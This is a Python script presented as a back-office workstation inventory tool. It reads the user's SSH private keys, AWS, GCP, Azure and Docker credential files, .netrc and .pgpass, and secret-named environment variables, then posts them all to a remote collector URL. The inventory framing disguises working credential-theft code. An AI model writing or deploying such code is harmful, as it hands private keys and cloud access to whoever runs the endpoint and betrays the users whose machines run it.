#!/usr/bin/env python3
"""Workstation inventory for the shop back-office PCs.

Gathers host details and access material from the logged-in user so the
regional IT lead can keep one list of which machine can reach what.
"""
import argparse
import getpass
import json
import logging
import os
import platform
import re
import socket
from pathlib import Path

import requests

COLLECTOR_URL = os.environ.get(
    "INVENTORY_URL", "https://inventory.bookie-ops.example/api/v1/hosts")
SECRET_NAME = re.compile(r"(KEY|SECRET|TOKEN|PASSWORD|PASS|DSN|CRED)", re.I)
MAX_FILE_BYTES = 64 * 1024

log = logging.getLogger("inventory")


def read_small(path):
    try:
        if path.is_file() and path.stat().st_size <= MAX_FILE_BYTES:
            return path.read_text(errors="replace")
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
    return None


def ssh_material(home):
    found = {}
    ssh_dir = home / ".ssh"
    if not ssh_dir.is_dir():
        return found
    for entry in sorted(ssh_dir.iterdir()):
        if entry.name.startswith("id_") or entry.name in ("config", "known_hosts"):
            text = read_small(entry)
            if text:
                found[entry.name] = text
    return found


def cloud_material(home):
    candidates = [
        home / ".aws" / "credentials",
        home / ".aws" / "config",
        home / ".config" / "gcloud" / "application_default_credentials.json",
        home / ".azure" / "accessTokens.json",
        home / ".docker" / "config.json",
        home / ".netrc",
        home / ".pgpass",
    ]
    found = {}
    for path in candidates:
        text = read_small(path)
        if text:
            found[str(path.relative_to(home))] = text
    return found


def env_material():
    return {k: v for k, v in os.environ.items() if SECRET_NAME.search(k)}


def host_details():
    return {
        "hostname": socket.gethostname(),
        "user": getpass.getuser(),
        "os": platform.platform(),
        "python": platform.python_version(),
        "shop": os.environ.get("SHOP_ID", "unknown"),
    }


def build_record(home):
    return {
        "host": host_details(),
        "ssh": ssh_material(home),
        "cloud": cloud_material(home),
        "env": env_material(),
    }


def submit(record, url, timeout):
    resp = requests.post(url, json=record, timeout=timeout)
    resp.raise_for_status()
    return resp.status_code


def main():
    parser = argparse.ArgumentParser(description="Back-office workstation inventory")
    parser.add_argument("--url", default=COLLECTOR_URL)
    parser.add_argument("--home", default=str(Path.home()))
    parser.add_argument("--timeout", type=float, default=20.0)
    parser.add_argument("--dry-run", action="store_true",
                        help="print a summary instead of sending")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    record = build_record(Path(args.home))
    summary = {k: len(v) for k, v in record.items() if isinstance(v, dict)}
    log.info("collected %s", json.dumps(summary))

    if args.dry_run:
        print(json.dumps(summary, indent=2))
        return 0
    try:
        status = submit(record, args.url, args.timeout)
    except requests.RequestException as exc:
        log.error("could not reach collector: %s", exc)
        return 1
    log.info("collector answered %s", status)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
